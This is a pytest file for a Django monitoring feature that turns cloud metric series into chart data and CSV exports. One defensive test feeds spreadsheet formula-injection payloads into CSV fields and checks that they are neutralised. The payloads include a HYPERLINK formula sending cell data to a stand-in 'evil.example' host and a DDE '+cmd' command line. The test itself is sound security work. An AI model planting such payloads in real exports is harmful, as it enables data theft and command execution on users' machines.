"""Monitoring series shaped for the charts and the CSV download."""

import csv
import io
import json

from django.utils.html import json_script

from pools.modelarts.metrics import MonitorResult
from pools.selectors.monitoring import CSV_HEADER, CompactJSONEncoder, chart_payload, monitor_csv

START_MS = 1_735_718_400_000
METRICS = ("cpuUsage", "memUsedRate", "gpuUtil", "diskCapacity")


def monitor_body(points: int = 3, metrics=METRICS, period_ms: int = 60_000) -> dict:
    return {
        "metrics": [
            {
                "metric": {"metricName": name, "namespace": "PAAS.AGGR", "dimensions": []},
                "dataPoints": [
                    {
                        "timestamp": START_MS + i * period_ms,
                        "unit": "Megabytes" if name == "diskCapacity" else "Percent",
                        "statistics": [{"statistic": "average", "value": 37.123456 + i % 50}],
                    }
                    for i in range(points)
                ],
            }
            for name in metrics
        ]
    }


def test_series_share_one_time_axis_with_gaps_for_missing_and_no_data_points():
    body = monitor_body(points=3, metrics=("cpuUsage", "gpuUtil"))
    body["metrics"][1]["dataPoints"][1]["statistics"][0]["value"] = -1  # the API's "no data"
    del body["metrics"][1]["dataPoints"][2]
    payload = chart_payload(MonitorResult.parse(body), "average")
    assert payload["t"] == [1_735_718_400, 1_735_718_460, 1_735_718_520]
    cpu, gpu = payload["series"]
    assert (cpu["name"], cpu["label"], cpu["unit"]) == ("cpuUsage", "CPU usage", "%")
    assert cpu["v"] == [37.123, 38.123, 39.123]
    assert gpu["v"] == [37.123, None, None]


def test_a_statistic_the_points_do_not_carry_is_all_gaps():
    payload = chart_payload(MonitorResult.parse(monitor_body(points=2)), "maximum")
    assert all(value is None for series in payload["series"] for value in series["v"])


def test_four_metrics_of_1440_points_fit_in_100_kb_on_the_page():
    payload = chart_payload(MonitorResult.parse(monitor_body(points=1440)), "average")
    script = json_script(payload, "monitor-data", encoder=CompactJSONEncoder)
    assert len(script.encode()) < 100_000
    assert json.loads(script.split(">", 1)[1].rsplit("<", 1)[0])["t"][0] == 1_735_718_400


def test_csv_has_one_row_per_metric_point_and_statistic():
    body = monitor_body(points=2, metrics=("cpuUsage", "diskCapacity"))
    body["metrics"][0]["dataPoints"][1]["statistics"][0]["value"] = -1
    rows = list(csv.reader(io.StringIO(monitor_csv(MonitorResult.parse(body)))))
    assert tuple(rows[0]) == CSV_HEADER
    assert rows[1] == [
        "cpuUsage",
        "CPU usage",
        "%",
        "average",
        str(START_MS),
        "2025-01-01T08:00:00+00:00",
        "37.123456",
    ]
    assert rows[2][-1] == "", "no data is an empty value"
    assert rows[3][:3] == ["diskCapacity", "Disk capacity", "MB"]
    assert len(rows) == 5


def test_csv_cells_from_upstream_text_never_run_as_formulas_and_values_stay_numbers():
    body = monitor_body(points=1, metrics=('=HYPERLINK("https://evil.example/?"&A2)', "-2+3"))
    body["metrics"][0]["dataPoints"][0]["unit"] = "+cmd|' /C calc'!A0"
    body["metrics"][0]["dataPoints"][0]["statistics"] = [{"statistic": "@SUM(A1)", "value": -5.5}]
    rows = list(csv.reader(io.StringIO(monitor_csv(MonitorResult.parse(body)))))
    first, second = rows[1], rows[2]
    assert first[:4] == [
        '\'=HYPERLINK("https://evil.example/?"&A2)',
        '\'=HYPERLINK("https://evil.example/?"&A2)',  # the label of an unknown metric is its name
        "'+cmd|' /C calc'!A0",
        "'@SUM(A1)",
    ]
    assert first[-1] == "-5.5", "a negative value stays a number"
    assert second[:2] == ["'-2+3", "'-2+3"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or cell.startswith("-2")]
